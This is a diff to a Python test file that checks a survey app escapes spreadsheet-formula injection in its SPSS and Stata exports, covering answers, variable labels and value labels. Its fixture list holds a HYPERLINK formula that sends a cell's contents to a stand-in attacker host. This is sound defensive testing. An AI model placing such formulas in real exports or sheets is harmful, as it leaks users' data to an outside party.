@@ -6,7 +6,10 @@ import io
 
 import openpyxl
 import polars as pl
+import pyreadstat
 import pytest
+
+from surveyapp.export import Column, serialise
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -51,3 +54,27 @@ def test_xlsx_text_is_a_string_cell_never_a_formula(analyst, stored: list[str]) 
 def test_parquet_keeps_the_text_exactly_as_typed_for_code_that_reads_it(analyst, stored: list[str]) -> None:
     r = analyst.get("/api/v1/waves/2026-autumn/export", params={"format": "parquet"})
     assert sorted(pl.read_parquet(io.BytesIO(r.content))["q7a"].to_list()) == sorted(stored)
+
+
+@pytest.mark.parametrize("fmt", ["sav", "dta"])
+def test_spss_and_stata_text_starts_with_a_quote_too(analyst, stored: list[str], fmt: str, tmp_path) -> None:
+    r = analyst.get("/api/v1/export", params={"waves": "2026-autumn", "format": fmt})
+    assert r.status_code == 200
+    path = tmp_path / f"export.{fmt}"
+    path.write_bytes(r.content)
+    frame, _ = (pyreadstat.read_sav if fmt == "sav" else pyreadstat.read_dta)(str(path), output_format="polars")
+    assert sorted(frame["q7a"].to_list()) == sorted(f"'{t}" for t in stored)
+
+
+@pytest.mark.parametrize("fmt", ["sav", "dta"])
+def test_spss_and_stata_labels_that_would_be_formulas_start_with_a_quote(fmt: str, tmp_path) -> None:
+    """A questionnaire's wording is ours, but a label is a cell once SPSS or Stata writes it to a spreadsheet."""
+    column = Column("q1", "q1", None, None, "single", "=HYPERLINK(\"http://evil.example\")", "=1+1 question",
+                    "", (("a", 1, "@SUM(1,2) answer"), ("b", 2, "Plain")))
+    frame = pl.DataFrame({"q1": ["a", "b", None]})
+    path = tmp_path / f"labels.{fmt}"
+    path.write_bytes(serialise(frame, [column], fmt, title="-title"))
+    _, meta = (pyreadstat.read_sav if fmt == "sav" else pyreadstat.read_dta)(str(path))
+    assert meta.column_names_to_labels["q1"] == "'=1+1 question"
+    assert meta.variable_value_labels["q1"] == {1: "'@SUM(1,2) answer", 2: "Plain"}
+    assert meta.file_label == "'-title"
